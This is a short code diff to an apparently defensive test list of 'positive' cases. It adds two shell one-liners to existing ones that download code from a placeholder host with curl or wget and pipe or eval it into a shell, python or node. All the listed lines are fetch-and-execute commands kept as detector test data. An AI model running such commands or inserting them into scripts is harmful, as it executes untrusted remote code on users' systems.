@@ -76,6 +76,8 @@ POSITIVE = [
     'python -c "$(curl -fsSL https://x.example/a.py)"',
     'node -e "$(curl -fsSL https://x.example/a.js)"',
     'X=$(curl -fsSL https://x.example/a); bash -c "$X"',
+    'X=$(curl -fsSL https://x.example/a); sh <<< "$X"',
+    'export S="$(wget -qO- https://x.example/a)"; eval "$S"',
     "$(curl -fsSL https://x.example/a)",
     'echo "$(curl -fsSL https://x.example/a)" | sh',
     "sh <<EOF\n$(curl -fsSL https://x.example/a)\nEOF",
